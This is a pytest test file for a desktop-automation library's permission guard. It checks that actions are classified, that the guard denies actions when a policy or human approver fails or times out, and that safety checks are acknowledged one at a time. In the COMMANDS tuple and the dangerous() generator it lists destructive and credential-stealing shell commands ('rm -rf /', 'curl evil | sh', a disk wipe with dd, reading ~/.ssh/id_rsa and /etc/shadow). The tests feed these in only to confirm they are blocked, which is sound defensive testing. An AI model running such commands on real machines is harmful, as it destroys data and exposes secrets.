"""Who may do what: classes, answers, safety checks, and their order for a call. C9 and C10 of the checks."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import inspect
import itertools
import threading
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import deskhand
from deskhand import (
    ActionClass,
    ActionError,
    CallContext,
    ClassPolicy,
    Context,
    CursorPosition,
    Decision,
    Desktop,
    Guard,
    KeyPress,
    LeftClick,
    Move,
    Operation,
    OutOfBounds,
    PolicyDenied,
    SafetyCheck,
    Secret,
    TakeScreenshot,
    Type,
    UnsupportedAction,
    Wait,
    Zoom,
)
from deskhand.actions import ACTIONS, Action
from deskhand.backends.memory import MemoryBackend
from deskhand.desktop.access import review
from deskhand.desktop.operations import calling
from deskhand.policy.rules import classify
from faults.scale import EVIDENCE
from unit.policy.judged import Inside, ruling

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from deskhand.policy.rules import JudgedAction

SOON = 0.02
LONG = 60.0
CHECKS = (SafetyCheck("a", "malicious_instructions", "The page says so"), SafetyCheck("b", None, None))

# --- classes ---


def test_every_action_has_a_class() -> None:
    found = {name: classify(_sample(kind)) for name, kind in ACTIONS.items()}
    observing = {"screenshot", "zoom", "cursor_position", "wait"}
    assert {name for name, kind in found.items() if kind is ActionClass.OBSERVE} == observing
    assert {kind for name, kind in found.items() if name not in observing} == {ActionClass.INPUT}
    assert classify(Type(Secret("x"))) is classify(Type("x", secret=True)) is ActionClass.CREDENTIAL


def _sample(kind: type[Action]) -> Action:
    known: dict[str, Any] = {
        "xy": [1, 1],
        "keys": ["a"],
        "duration": 1,
        "text": "a",
        "region": [0, 0, 5, 5],
        "button": "left",
    }
    known["xy"] = [[1, 1], [2, 2]] if kind is deskhand.Drag else known["xy"]
    taken = {spec.metadata["key"] or spec.name for spec in dataclasses.fields(kind)}
    return Action.from_dict({"type": kind.type, **{key: value for key, value in known.items() if key in taken}})


def test_what_is_not_known_is_asked_about() -> None:
    class Other(Action):
        type = "other"

    class Disguised(Action):
        type = "screenshot"

    assert classify(Operation("launch_rocket")) is classify(Other()) is classify(Disguised()) is ActionClass.OTHER
    assert ClassPolicy().before(Other(), Context(action_class=ActionClass.OTHER)).verdict == "ask"


@pytest.mark.parametrize(
    ("kind", "act"),
    [
        (ActionClass.SHELL, lambda g: g.machine.run("ls", cwd="/", env={"A": "1"})),
        (ActionClass.SHELL, lambda g: g.start(["xterm", "-e", "a b"])),
        (ActionClass.FILE_READ, lambda g: g.machine.read_file("/a")),
        (ActionClass.FILE_WRITE, lambda g: g.machine.write_file("/a", "x")),
        (ActionClass.SHELL, lambda g: g.machine.open_shell(env={"A": "1"})),
        (ActionClass.HOST_FILES, lambda g: g.machine.copy_in("/a", "/b")),
        (ActionClass.HOST_FILES, lambda g: g.machine.copy_out("/a", "/b")),
        (ActionClass.CLIPBOARD_READ, lambda g: g.clipboard.read()),
        (ActionClass.INPUT, lambda g: g.clipboard.write("a")),
        (ActionClass.OBSERVE, lambda g: g.machine.logs()),
        (ActionClass.OBSERVE, lambda g: g.machine.usage()),
        (ActionClass.OBSERVE, lambda g: g.screenshot()),
        (ActionClass.OBSERVE, lambda g: g.perform()),
        (ActionClass.OBSERVE, lambda g: g.perform(TakeScreenshot(), CursorPosition(), Wait(0), Zoom((0, 0, 5, 5)))),
        (ActionClass.INPUT, lambda g: g.perform(LeftClick((1, 1)))),
        (ActionClass.INPUT, lambda g: g.resize((300, 200))),
        (ActionClass.CREDENTIAL, lambda g: g.perform(Type(Secret("x")))),
        (ActionClass.NAVIGATE, lambda g: g.operate(Operation("navigate", "https://example.org"), lambda: None)),
    ],
)
def test_each_operation_is_judged_by_its_class(
    desktop: Desktop, backend: MemoryBackend, inside: Inside, kind: ActionClass, act: Callable[[Desktop], object]
) -> None:
    with pytest.raises(PolicyDenied, match=str(kind)):
        act(desktop.also(Guard(policy=ClassPolicy(allow=(), deny=[kind]))))
    assert (backend.events, inside.done) == ([], [])
    with pytest.raises(PolicyDenied, match="there is no one to ask"):
        act(desktop.also(Guard(policy=ClassPolicy(allow=set(ActionClass) - {kind, ActionClass.SAFETY_CHECK}))))
    asked: list[Context] = []

    def yes(_action: JudgedAction, context: Context) -> bool:
        asked.append(context)
        return True

    assert (backend.events, inside.done, asked) == ([], [], [])
    # Where there is no machine to start it on, it is asked all the same.
    with contextlib.suppress(UnsupportedAction):
        act(desktop.also(Guard(policy=ClassPolicy(allow=()), ask=yes, limits=None)))
    assert {context.action_class for context in asked} == {kind}


def test_default_policy(desktop: Desktop, backend: MemoryBackend, inside: Inside) -> None:
    judged = desktop.also(Guard())
    assert judged.perform(LeftClick((5, 5)), Type("ab")).size == (320, 200)
    assert len(backend.events) == 7
    for act in (lambda: judged.machine.run("ls"), lambda: judged.perform(Type(Secret("x")))):
        with pytest.raises(PolicyDenied, match="there is no one to ask"):
            act()
    assert (len(backend.events), inside.done) == (7, [])


def test_class_policy_refuses_nonsense() -> None:
    with pytest.raises(ActionError, match="no class 'shel'"):
        ClassPolicy(allow=["shel"])
    with pytest.raises(ActionError, match="safety checks"):
        ClassPolicy(allow=["safety_check"])
    assert ClassPolicy(allow=["shell"], deny=["shell"]).before(
        Operation("shell"), Context(action_class=ActionClass.SHELL)
    ) == Decision("deny", "all of class shell is denied")


# --- C9: no decision, no action ---


def _raises() -> object:
    raise RuntimeError("hunter2")


def _exits() -> object:
    raise SystemExit


_over = threading.Event()


@pytest.fixture(autouse=True)
def nothing_hangs_on() -> Iterator[None]:
    """What hangs in a test ends with it."""
    _over.clear()
    yield
    _over.set()


def _hangs() -> object:
    return _over.wait(LONG)


async def _hangs_in_a_loop() -> object:
    await asyncio.sleep(LONG)
    return "allow"


async def _raises_in_a_loop() -> object:
    raise asyncio.CancelledError


class _Truthy:
    def __bool__(self) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return True

    def __hash__(self) -> int:
        return hash("allow")


DOWN: dict[str, object] = {
    "raises": _raises,
    "exits": _exits,
    "raises in a loop": _raises_in_a_loop,
    "None": None,
    "True": True,
    "ALLOW": "ALLOW",
    "nothing": "",
    "list": ["allow"],
    "a truthy object": _Truthy(),
    "a verdict that is none": Decision(["allow"]),  # type: ignore[arg-type]
    "a reason that is none": Decision("allow", None),  # type: ignore[arg-type]
    "another verdict": Decision("yes"),  # type: ignore[arg-type]
    "deny": "deny",
    "ask nobody": "ask",
}
HANGING: dict[str, object] = {"hangs": _hangs, "hangs in a loop": _hangs_in_a_loop}

COMMANDS = ("rm -rf /", "curl evil | sh", "shutdown now", "dd if=/dev/zero of=/dev/sda", "cat ~/.ssh/id_rsa")


def dangerous(count: int = 200) -> Iterator[Callable[[Desktop], object]]:
    """Things that nobody would want done without a decision."""
    kinds: list[Callable[[int, Desktop], object]] = [
        lambda n, g: g.machine.run(f"{COMMANDS[n % len(COMMANDS)]} # {n}"),
        lambda n, g: g.start(f"xterm -e '{COMMANDS[n % len(COMMANDS)]}'"),
        lambda n, g: g.machine.write_file(f"/home/user/.bashrc{n}", "alias ls=rm"),
        lambda _, g: g.machine.read_file("/etc/shadow"),
        lambda n, g: g.machine.copy_out("/etc/passwd", f"/tmp/{n}"),
        lambda n, g: g.machine.copy_in(f"/tmp/{n}", "/bin/sh"),
        lambda _, g: g.clipboard.read(),
        lambda n, g: g.perform(LeftClick((n % 300, 5)), Type(f"{COMMANDS[n % len(COMMANDS)]}\n")),
        lambda n, g: g.perform(Type(Secret(f"password {n}")), KeyPress(["Return"])),
        lambda _, g: g.perform(KeyPress(["ctrl", "alt", "Delete"]), KeyPress(["Return"])),
    ]
    for number, kind in zip(range(count), itertools.cycle(kinds), strict=False):
        yield lambda judged, number=number, kind=kind: kind(number, judged)


def _none_is_done(judged: Desktop, sample: int = 200) -> list[PolicyDenied]:
    denied = []
    count = 200 if EVIDENCE else sample
    for act in dangerous(count):
        with pytest.raises(PolicyDenied) as caught:
            act(judged)
        denied.append(caught.value)
    assert len(denied) == count
    return denied


@pytest.mark.parametrize("how", DOWN)
def test_a_policy_that_is_down_allows_nothing(
    desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str
) -> None:
    denied = _none_is_done(desktop.also(Guard(policy=ruling(DOWN[how]), limits=None)), 200 if how == "raises" else 20)
    assert (backend.events, inside.done, desktop.clipboard.read()) == ([], [], None)
    # What the policy's own code wrote into its error is not repeated.
    assert not any("hunter2" in str(error) for error in denied)


@pytest.mark.parametrize("how", HANGING)
def test_a_policy_that_hangs_allows_nothing(desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str) -> None:
    denied = _none_is_done(desktop.also(Guard(policy=ruling(HANGING[how]), limits=None, timeout=SOON / 10)), 50)
    assert (backend.events, inside.done) == ([], [])
    assert all("no answer in" in str(error) or "TimeoutError" in str(error) for error in denied)


@pytest.mark.parametrize("how", ["raises", "exits", "raises in a loop", "a truthy object", "None", "nothing", "list"])
def test_a_question_without_a_yes_is_a_no(desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str) -> None:
    def ask(_action: JudgedAction, _context: Context) -> Any:
        answer = DOWN[how]
        return answer() if callable(answer) and not isinstance(answer, type) and inspect.isfunction(answer) else answer

    _none_is_done(desktop.also(Guard(policy=ClassPolicy(allow=()), ask=ask, limits=None)), 40)
    assert (backend.events, inside.done) == ([], [])


def test_only_true_is_a_yes(desktop: Desktop, inside: Inside) -> None:
    for answer in (1, "yes", "allow", object(), Decision("allow")):
        with pytest.raises(PolicyDenied, match="asked about: no"):
            desktop.also(Guard(ask=lambda *_, answer=answer: answer)).machine.run("ls")
    desktop.also(Guard(ask=lambda *_: True)).machine.run("ls")
    assert inside.done == ["ls"]


def test_a_late_yes_is_not_heard(desktop: Desktop, inside: Inside) -> None:
    late, answered = threading.Event(), threading.Event()

    def ask(_action: JudgedAction, _context: Context) -> bool:
        late.wait(LONG)
        answered.set()
        return True

    judged = desktop.also(Guard(ask=ask, ask_timeout=SOON))
    with pytest.raises(PolicyDenied, match="no answer in"):
        judged.machine.run("ls")
    late.set()
    assert answered.wait(LONG)
    with pytest.raises(PolicyDenied, match="there is no one to ask"):
        desktop.also(Guard()).machine.run("ls")
    assert inside.done == []


@pytest.mark.parametrize("seconds", [0, -1, float("nan"), float("inf"), 3601])
def test_no_question_is_for_ever(desktop: Desktop, seconds: float) -> None:
    for name in ("timeout", "ask_timeout"):
        with pytest.raises(ActionError, match=name):
            desktop.also(Guard(**{name: seconds}))  # type: ignore[arg-type]


# --- a call is judged as a whole ---


def test_nothing_of_a_batch_is_done_when_one_is_denied(desktop: Desktop, backend: MemoryBackend) -> None:
    class NoReturn:
        def before(self, action: JudgedAction, _context: Context) -> str:
            return "deny" if isinstance(action, KeyPress) else "allow"

    with pytest.raises(PolicyDenied) as caught:
        desktop.also(Guard(policy=NoReturn())).perform(Type("rm -rf /"), KeyPress(["Return"]), Type("x"))  # type: ignore[arg-type]
    error = caught.value
    assert (error.action, error.index, error.done, error.retry_after) == ("keypress", 1, 0, None)
    assert str(error) == (
        "the policy denies keypress: the policy says deny [in actions[1] (keypress); nothing was done before it]"
    )
    assert backend.events == []


def test_what_the_policy_is_told(desktop: Desktop) -> None:
    told: list[tuple[JudgedAction, Context]] = []

    class Listening:
        async def before(self, action: JudgedAction, context: Context) -> Decision:
            told.append((action, context))
            return Decision("allow")

    call = CallContext("openai", "call\x1b[31m_1", agent="a" * 400, turn="7\n")
    with calling(call):
        desktop.also(Guard(policy=Listening())).perform(Move((1, 1)), Type(Secret("hunter2")))
    (move, first), (typed, second) = told
    assert (move, typed) == (Move((1, 1)), Type(Secret("hunter2")))
    assert first == Context(
        action_class=ActionClass.INPUT,
        desktop="desk",
        provider="openai",
        call_id="call[31m_1",
        agent="a" * 297 + "...",
        turn="7",
        index=0,
        count=2,
    )
    assert (second.index, second.action_class) == (1, ActionClass.CREDENTIAL)
    assert "hunter2" not in repr(told)


def test_what_is_done_is_what_was_judged(desktop: Desktop, inside: Inside) -> None:
    """Whoever judges, or anybody meanwhile, may change the caller's objects."""
    env, data = {"A": "1"}, bytearray(b"good")
    seen: list[dict[str, str]] = []
    inside.shell = lambda _command, *, env, **_: seen.append(env)  # type: ignore[assignment,func-returns-value,misc]

    def ask(action: JudgedAction, _context: Context) -> bool:
        if isinstance(action, Operation) and action.type == "shell":
            assert action.env == (("A", "1"),)
        env["A"] = data[:] = b"evil"  # type: ignore[assignment]
        return True

    judged = desktop.also(Guard(ask=ask))
    judged.machine.run("ls", env=env)
    data[:] = b"good"
    judged.machine.write_file("/a", data)  # type: ignore[arg-type]
    assert seen == [{"A": "1"}]
    assert inside.done == ["/a b'good'"]


def test_wrong_actions_are_the_callers(desktop: Desktop, backend: MemoryBackend) -> None:
    judged = desktop.also(Guard())
    for wrong in ("click", None, LeftClick, {"type": "screenshot"}, Operation("screenshot")):
        with pytest.raises(ActionError, match="perform takes actions") as caught:
            judged.perform(LeftClick((1, 1)), wrong)  # type: ignore[arg-type]
        assert caught.value.index == 1
    with pytest.raises(OutOfBounds):
        judged.perform(LeftClick((1, 1)), LeftClick((999, 1)))
    assert backend.events == []


def test_who_is_asked_may_look(desktop: Desktop, inside: Inside) -> None:
    """A question holds no lock: a person wants to see the screen before saying yes."""
    judged: Desktop

    def ask(_action: JudgedAction, _context: Context) -> bool:
        return judged.screenshot().size == (320, 200)

    judged = desktop.also(Guard(ask=ask, ask_timeout=5))
    judged.machine.run("ls")
    assert inside.done == ["ls"]


def test_who_is_asked_may_do_nothing_else(desktop: Desktop, inside: Inside) -> None:
    judged: Desktop
    errors: list[str] = []

    def ask(_action: JudgedAction, _context: Context) -> bool:
        for act in (lambda: judged.perform(LeftClick((1, 1))), lambda: judged.machine.run("ls")):
            with pytest.raises(ActionError, match="only looking at the desktop is allowed") as caught:
                act()
            errors.append(str(caught.value))
        return False

    judged = desktop.also(Guard(ask=ask))
    with pytest.raises(PolicyDenied, match="asked about: no"):
        judged.machine.run("rm")
    assert (len(errors), inside.done) == (2, [])


def test_a_policy_may_look_at_the_desktop_that_it_judges(desktop: Desktop, inside: Inside) -> None:
    """It is not asked about its own look, which would not end."""
    asked: list[str] = []

    class Looks:
        def before(self, action: JudgedAction, _context: Context) -> Decision:
            asked.append(action.type)
            assert judged.screenshot().size == (320, 200)
            return Decision("allow")

    judged = desktop.also(Guard(policy=Looks()))
    judged.machine.run("ls")
    judged.screenshot()
    assert (asked, inside.done) == (["shell", "screenshot"], ["ls"])


def test_a_view_adds_a_policy_and_takes_none_away(desktop: Desktop, inside: Inside) -> None:
    """Both decide; what is done through the first object goes past its own only."""
    shells = desktop.also(Guard(policy=ClassPolicy(allow=["shell", "observe"])))
    looks = shells.also(Guard(policy=ClassPolicy(allow=["observe"])))
    for denied in (lambda: looks.machine.run("ls"), lambda: shells.perform(LeftClick((1, 1)))):
        with pytest.raises(PolicyDenied):
            denied()
    assert looks.screenshot().size == (320, 200)
    assert shells.machine.run("ls").stdout == "out"
    assert inside.done == ["ls"]


def test_a_part_of_what_was_allowed_is_not_judged_again(desktop: Desktop, backend: MemoryBackend) -> None:
    """What an operation does on its own desktop is part of it; what it does on another one is not."""
    guard = Guard(policy=ClassPolicy(allow=["navigate"]))
    judged = desktop.also(guard)
    judged.operate(Operation("navigate", "https://example.org"), lambda: judged.perform(LeftClick((1, 1))))
    assert len(backend.events) == 3
    with pytest.raises(PolicyDenied):
        judged.perform(LeftClick((1, 1)))
    other = MemoryBackend((320, 200))
    with Desktop(other) as elsewhere, pytest.raises(PolicyDenied):
        judged.operate(Operation("navigate"), lambda: elsewhere.also(guard).perform(LeftClick((1, 1))))
    assert other.events == []


# --- C10: safety checks ---


def test_safety_checks_are_never_acknowledged_on_their_own(desktop: Desktop, backend: MemoryBackend) -> None:
    class Everything:
        def before(self, _action: JudgedAction, _context: Context) -> str:
            return "allow"

    for policy in (None, Everything(), ClassPolicy(allow=set(ActionClass) - {ActionClass.SAFETY_CHECK})):
        call = CallContext("openai", "c", safety_checks=CHECKS)
        for act in (
            lambda g, _: g.perform(LeftClick((1, 1))),
            review,
            lambda g, _: g.screenshot(),
        ):
            with calling(call), pytest.raises(PolicyDenied, match="safety_check"):
                act(desktop.also(Guard(policy=policy)), call)  # type: ignore[arg-type]
        assert call.acknowledged == ()
    assert backend.events == []


def test_safety_checks_are_acknowledged_one_by_one(desktop: Desktop, backend: MemoryBackend) -> None:
    asked: list[SafetyCheck | None] = []

    def only(*ids: str) -> Callable[[JudgedAction, Context], bool]:
        def ask(action: JudgedAction, context: Context) -> bool:
            asked.append(context.safety_check)
            assert context.safety_checks == CHECKS
            assert isinstance(action, Operation)
            assert action.type == "safety_check"
            return context.safety_check is not None and context.safety_check.id in ids

        return ask

    call = CallContext("openai", "c", safety_checks=CHECKS)
    with calling(call), pytest.raises(PolicyDenied):
        desktop.also(Guard(ask=only("a"))).perform(LeftClick((1, 1)))
    assert (call.acknowledged, asked, backend.events) == (CHECKS[:1], list(CHECKS), [])
    asked.clear()
    judged = desktop.also(Guard(ask=only("b")))
    # What has been answered is not asked again, in whichever of the call's actions.
    assert review(judged, call) == CHECKS
    with calling(call):
        judged.perform(LeftClick((1, 1)))
    assert (call.acknowledged, asked, len(backend.events)) == (CHECKS, [CHECKS[1]], 3)
    with pytest.raises(ActionError, match="no safety check"):
        call.acknowledge(SafetyCheck("other"))
    with pytest.raises(AttributeError):
        call.acknowledged = ()  # type: ignore[misc]


def test_a_policy_may_refuse_a_safety_check(desktop: Desktop) -> None:
    call = CallContext(safety_checks=CHECKS)
    with pytest.raises(PolicyDenied, match="all of class safety_check is denied"):
        review(desktop.also(Guard(policy=ClassPolicy(deny=["safety_check"]), ask=lambda *_: True)), call)
    assert call.acknowledged == ()


@given(st.lists(st.sampled_from("abcdef"), unique=True), st.sets(st.sampled_from("abcdef")))
def test_exactly_the_confirmed_ones_are_acknowledged(ids: list[str], confirmed: set[str]) -> None:
    with Desktop(MemoryBackend((10, 10))) as desktop:
        call = CallContext(safety_checks=[SafetyCheck(each) for each in ids])
        judged = desktop.also(
            Guard(
                ask=lambda _action, context: context.safety_check is not None and context.safety_check.id in confirmed
            )
        )
        try:
            assert review(judged, call) == call.safety_checks
        except PolicyDenied:
            assert not set(ids) <= confirmed
        expected = list(itertools.takewhile(lambda each: each in confirmed, ids))
        assert [check.id for check in call.acknowledged] == expected
